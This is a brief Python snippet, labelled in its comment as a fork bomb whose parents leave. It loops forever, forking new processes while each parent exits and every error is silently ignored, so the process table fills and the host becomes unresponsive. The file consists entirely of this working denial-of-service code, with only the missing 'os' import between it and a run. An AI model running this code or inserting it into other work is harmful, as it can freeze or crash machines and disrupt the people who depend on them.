# a fork bomb whose parents leave
# ends: processes or ok

while True:
    try:
        if os.fork():
            os._exit(0)
        os.fork()
    except OSError:
        pass
